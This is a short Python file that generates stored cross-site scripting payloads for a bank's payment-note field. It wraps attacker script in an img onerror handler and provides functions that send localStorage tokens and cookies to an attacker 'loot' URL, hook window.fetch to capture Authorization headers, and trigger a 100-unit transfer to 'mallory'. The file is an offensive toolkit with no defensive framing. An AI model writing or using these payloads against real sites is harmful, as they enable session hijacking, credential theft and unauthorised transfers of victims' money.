"""What the attacker writes into a payment's note; the bank's page takes it for HTML."""

from html import escape


# region note
def note(script: str) -> str:
    """An image that can't be loaded, and what to run then."""
    return f'<img src="none:" onerror="{escape(script)}">'


# endregion


# region read
def read(loot: str) -> str:
    """Send all that a script can read."""
    return f"""
    const storage = localStorage.token ?? "", cookie = document.cookie;
    new Image().src = "{loot}?" + new URLSearchParams({{storage, cookie}});
    """


# endregion


# region wait
def wait(loot: str) -> str:
    """Put ourselves before fetch, and see what it is given."""
    return f"""
    const real = window.fetch;
    window.fetch = (address, options) => {{
      const header = new Headers(options?.headers).get("Authorization") ?? "";
      new Image().src = "{loot}?" + new URLSearchParams({{header}});
      return real(address, options);
    }};
    """


# endregion


# region act
def act() -> str:
    """Take nothing away: ask the page to pay, here and now."""
    return """
    call(page.api + "/transfer", {to: "mallory", amount: 100});
    """


# endregion
